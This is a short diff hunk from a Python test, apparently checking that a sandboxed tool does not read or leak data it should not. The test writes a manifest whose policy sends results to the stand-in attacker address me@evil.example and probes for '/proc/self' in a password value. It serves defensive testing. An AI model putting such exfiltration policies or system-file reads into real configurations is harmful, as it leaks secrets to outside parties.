@@ -53,6 +53,7 @@ def careful(at_sandbox: User, sandbox: Sandbox) -> User:
     ],
 )
 def test_no_pull_request_reads_what_is_not_meant_for_it(at_sandbox: User, sandbox: Sandbox, password: str) -> None:
+    at_sandbox.starts_python = "/proc/self" in password
     os.mkfifo(at_sandbox.folder / "pipe")
     at_sandbox.write("a.yaml", manifest(password, "policy: {test: {when: before, to_email: me@evil.example}}"))
     for command in (["plan", "a.yaml"], ["apply", "a.yaml", "--auto-approve"], ["test", "a.yaml"]):
